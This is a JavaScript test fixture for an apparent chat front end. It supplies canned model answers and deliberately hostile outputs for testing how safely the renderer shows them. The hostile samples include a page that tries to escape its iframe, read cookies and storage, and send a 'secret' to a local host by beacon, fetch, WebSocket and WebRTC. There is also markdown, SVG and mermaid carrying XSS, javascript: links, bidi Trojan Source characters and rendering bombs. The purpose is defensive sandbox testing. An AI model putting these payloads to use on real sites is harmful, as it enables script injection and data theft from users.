// What the mock house's models say.

export function canned(question, language) {
  const german = language === "de";
  const made = artifact(question);
  if (made !== undefined) return made;
  if (/headings|Überschriften/u.test(question)) {
    return german
      ? "Drei Vorschläge:\n\n1. **Zwei Teams, ein Auftrag**\n2. Was sich ändert, und was bleibt\n3. Gemeinsam ab dem *ersten Quartal*\n"
      : "Three suggestions:\n\n1. **Two teams, one task**\n2. What changes and what stays\n3. Together from the *first quarter*\n";
  }
  if (/summarise the figures|fasse die Zahlen/u.test(question)) {
    return german
      ? "1. Der Umsatz lag bei **1.234,56 €**.\n2. Stichtag war der 24. Dezember 2026.\n3. Der Anteil betrug 5 %, nach § 12 Abs. 3 waren es 7 %.\n\n| Jahr | Betrag |\n| --- | ---: |\n| 2026 | 1.234,56 € |\n| 2027 | 9.999,99 € |\n"
      : "1. Sales came to **EUR 1,234.56**.\n2. The day was 24 December 2026.\n3. The share was 5%, by § 12 Abs. 3 it was 7%.\n\n| Year | Amount |\n| --- | ---: |\n| 2026 | €1,234.56 |\n| 2027 | €9,999.99 |\n";
  }
  if (/table|Tabelle/u.test(question)) {
    return german
      ? "| Tor | Seite | Zustand |\n| --- | --- | --- |\n| oberes | Berg | zu |\n| unteres | Tal | offen |\n\n> Immer nur eines ist offen."
      : "| Gate | Side | State |\n| --- | --- | --- |\n| upper | hill | shut |\n| lower | valley | open |\n\n> Only one is ever open.";
  }
  if (/key|Schlüssel/u.test(question)) {
    return german
      ? "So ein Schlüssel meldet ein Programm an:\n\n```sh\ncurl -H \"authorization: Bearer $KEY\" https://api.example.org\n```\n\nBewahren Sie ihn in einer Datei auf, nicht im Skript."
      : "Such a key signs a program in:\n\n```sh\ncurl -H \"authorization: Bearer $KEY\" https://api.example.org\n```\n\nKeep it in a file, not in the script.";
  }
  return german
    ? "Eine Schleuse ist eine Kammer mit einem Tor an jedem Ende, in der ein Schiff durch Füllen oder Leeren gehoben oder gesenkt wird. Immer nur ein Tor ist offen, damit das Wasser auf beiden Seiten bleibt, wo es ist."
    : "A canal lock is a chamber with a gate at each end in which a boat is raised or lowered by letting water in or out. Only one gate is open at a time, so that the water on both sides stays where it is.";
}


const fence = (name, text) => `Here it is:\n\n\`\`\`${name}\n${text}\n\`\`\`\n`;

/** What can be shown in a frame, honest and hostile. */
function artifact(question) {
  if (question.includes("broken diagram")) return fence("mermaid", "graph TD\n  A[[[ -->");
  if (question.includes("hostile diagram")) {
    return fence("mermaid", '%%{init: {"securityLevel": "loose", "themeCSS": "* { background: url(https://elsewhere.invalid/css) }"}}%%\ngraph TD\n  A["<img src=https://elsewhere.invalid/i.png onerror=top.hacked=1>"] --> B\n  click A href "javascript:top.hacked=1"\n  click B "https://elsewhere.invalid" _top');
  }
  if (question.includes("a diagram")) return fence("mermaid", "---\ntitle: Lock\n---\ngraph LR\n  Upper[Upper gate] --> Chamber --> Lower[Lower gate]\n  Chamber -- water --> Valley");
  const [, version] = /web page (\d)/u.exec(question) ?? [];
  if (version) return fence("html", `<!doctype html><title>Tolls</title><h1>Tolls ${version}</h1><button onclick="this.textContent='paid'">Pay</button>`);
  if (question.includes("a drawing")) return fence("svg", '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 90 30" width="270"><script>top.hacked=1</script><rect width="90" height="30" fill="#0b5763"/></svg>');
  if (question.includes("broken program")) return fence("js", "document.body.append('begun'); missing();");
  const [, port] = /hostile page (\d+)/u.exec(question) ?? [];
  return port ? fence("html", hostilePage(port)) : undefined;
}

/** Tries every way out of a frame: to another computer, to the page around it, to the window. */
function hostilePage(port) {
  const at = `127.0.0.1:${port}`;
  return `<!doctype html><title>Hostile</title>
<link rel="preconnect" href="http://${at}"><link rel="dns-prefetch" href="http://${at}"><link rel="prefetch" href="http://${at}/prefetch"><link rel="stylesheet" href="http://${at}/s.css">
<meta http-equiv="refresh" content="1;url=http://${at}/refresh"><base href="http://${at}/">
<style>@import "http://${at}/import.css"; body { background: url(http://${at}/bg.png) } @font-face { font-family: x; src: url(http://${at}/f.woff2) } p { font-family: x }</style>
<p>text</p><img src="http://${at}/i.png"><iframe src="http://${at}/frame"></iframe><object data="http://${at}/object"></object><embed src="http://${at}/embed"><video src="http://${at}/v.mp4"></video>
<script src="http://${at}/x.js"></script><form id="f" action="http://${at}/form" method="post" target="_top"><input name="a" value="secret"></form>
<a id="a" href="http://${at}/link" target="_top">top</a><a id="b" href="http://${at}/blank" target="_blank">blank</a><a id="p" href="http://${at}/self" ping="http://${at}/ping">self</a>
<script>
const done = {};
const tried = (name, act) => { try { const value = act(); done[name] = value === undefined || value === null ? "nothing" : "got it"; } catch (error) { done[name] = error.name; } };
tried("parent", () => parent.document.title);
tried("top", () => { top.location.href = "http://${at}/top"; });
tried("topHacked", () => { top.hacked = 1; });
tried("cookie", () => document.cookie);
tried("storage", () => localStorage.getItem("schleuse.language"));
tried("cache", () => caches.open("x"));
tried("popup", () => window.open("http://${at}/popup"));
tried("form", () => document.getElementById("f").submit());
tried("fetch", () => void fetch("http://${at}/fetch", { mode: "no-cors" }).catch(() => 0));
tried("house", () => void fetch("/auth/session").catch(() => 0));
tried("xhr", () => { const x = new XMLHttpRequest(); x.open("GET", "http://${at}/xhr"); x.send(); });
tried("socket", () => void new WebSocket("ws://${at}/socket"));
tried("events", () => void new EventSource("http://${at}/events"));
tried("beacon", () => navigator.sendBeacon("http://${at}/beacon", "secret") || undefined);
tried("worker", () => void new Worker(URL.createObjectURL(new Blob(["fetch('http://${at}/worker')"]))));
tried("import", () => void import("http://${at}/module.js").catch(() => 0));
tried("picture", () => { new Image().src = "http://${at}/late.png"; });
const rtc = (view) => { const c = new view.RTCPeerConnection({ iceServers: [{ urls: "stun:${at}" }] }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o)); };
tried("rtc", () => rtc(window));
tried("inner", () => { const inner = document.createElement("iframe"); inner.srcdoc = "<script>const c = new RTCPeerConnection({iceServers:[{urls:'stun:${at}'}]}); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)); new Image().src='http://${at}/inner.png'<\\/script>"; document.body.append(inner); });
tried("hint", () => { const link = document.createElement("link"); link.rel = "preconnect"; link.href = "http://${at}"; document.head.append(link); });
for (const id of ["a", "b", "p"]) tried(id, () => document.getElementById(id).click());
parent.postMessage({ frame: "schleuse", height: 1e9, failed: ["parent", "topHacked", "cookie", "storage", "popup", "hint", "rtc"].map((name) => name + "=" + done[name]).join(" ") + " <img src=x onerror=top.hacked=1>" }, "*");
setTimeout(() => { location.href = "http://${at}/location"; }, 1500);
</script>`;
}

/** Everything that models write, in turn, until there is so much of it. */
export function lengthy(kilobytes, what = "everything") {
  if (what !== "everything") return endless(kilobytes * 1024, what);
  const parts = [];
  for (let size = 0, chapter = 1; size < kilobytes * 1024; chapter += 1) {
    const part = [
      `## Chapter ${chapter}: the *lock* of day ${chapter}\n`,
      `The keeper wrote **${chapter * 17}** ships into the book, and \`level_${chapter}\` stood at ${chapter},5 m. ${"The water rose, and it fell again. ".repeat(8)}\n`,
      `- upper gate\n  - left wing, ${chapter} t\n  - right wing\n- lower gate\n`,
      `\`\`\`python\ndef fill(chamber: int = ${chapter}) -> float:\n    """Lets water in."""\n    return chamber * 1.5  # metres\n\`\`\`\n`,
      `| Ship | Tons | Toll |\n| --- | ---: | ---: |\n${[1, 2, 3, 4].map((row) => `| No. ${row} | ${row * chapter} | ${row},50 € |\n`).join("")}`,
      `The volume is $V_{${chapter}} = a \\cdot b \\cdot h$, and it costs $5 or $7.\n`,
    ].join("\n");
    parts.push(part);
    size += part.length;
  }
  return parts.join("\n");
}

/** One block that never ends. */
function endless(size, what) {
  const line = { list: "- An **item** of the `list`, and what it says of the water\n", table: "| a *cell* | 12 | and | more |\n", code: "    return chamber * 1.5  # metres, and nothing else\n", line: "word " }[what];
  const head = { list: "", table: "| A | B | C | D |\n| --- | ---: | --- | --- |\n", code: "```python\n", line: "" }[what];
  return `${head}${line.repeat(Math.ceil(size / line.length))}${what === "code" ? "```\n" : ""}\n\nThe end.`;
}

/** What nobody means well: it must load nothing, lead nowhere, run nothing, hide nothing, and not stop the page. */
export function hostile(elsewhere = "https://elsewhere.invalid") {
  return [
    "# Hostile\n",
    `![beacon](${elsewhere}/p.png?q=secret) ![a][ref] <img src="${elsewhere}/i.png" onerror="globalThis.hacked=1">\n`,
    `[ref]: ${elsewhere}/ref.png "title"\n`,
    `[click](javascript:globalThis.hacked=1) [data](data:text/html,<script>globalThis.hacked=1</script>) [vb](vbscript:x) <javascript:alert(1)> <${elsewhere}/auto>\n`,
    "<script>globalThis.hacked=1</script>\n\n<svg onload=globalThis.hacked=1><style>*{display:none}</style></svg>\n",
    `<iframe src="${elsewhere}"></iframe> <object data="${elsewhere}"></object> <form action="${elsewhere}"><input autofocus onfocus=globalThis.hacked=1></form>\n`,
    `<link rel=stylesheet href=${elsewhere}/s.css> <meta http-equiv=refresh content="0;url=${elsewhere}"> <base href=${elsewhere}>\n`,
    `<div style="background:url(${elsewhere}/bg.png);position:fixed;inset:0">over everything</div>\n`,
    "user\u202Etxt.exe\u202C and pay\u200Bpal and \u{E0041}\u{E0042}\u{E0043}hidden\u2066 words\u2069 \u0007\n",
    "```js\nif (access\u202E /* begin admins only */ \u2066) {}\n```\n",
    `$\\href{javascript:globalThis.hacked=1}{x}$ and $\\includegraphics{${elsewhere}/x.png}$ and $\\htmlStyle{position:fixed}{y}$ and $\\url{${elsewhere}}$\n`,
    "$\\def\\a{\\a\\a}\\a$ and $\\rule{1000em}{1000em}$ and $\\color{red}{z}$\n",
    "It costs $5 or $7, but $E = mc^2$ and $$\\sum_{i=1}^{n} i = \\frac{n(n+1)}{2}$$\n",
    `\`\`\`mermaid\ngraph TD; A-->B; click A "${elsewhere}"\n\`\`\`\n`,
    `${"  ".repeat(3)}- a\n${Array.from({ length: 200 }, (_, depth) => `${"  ".repeat(depth)}- deep ${depth}`).join("\n")}\n`,
    `${">".repeat(300)} quoted\n`,
    `| ${Array.from({ length: 200 }, (_, column) => `c${column}`).join(" | ")} |\n|${" --- |".repeat(200)}\n${`|${" =1+1 |".repeat(200)}\n`.repeat(5)}`,
    "- [x] done\n- [ ] open\n",
    "**half *open `code [link](",
    "\n\n",
    "ﷺ العربية עברית 👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿\n\n",
    "word ".repeat(200_000),
    "\n\nThe end of it.",
  ].join("\n");
}
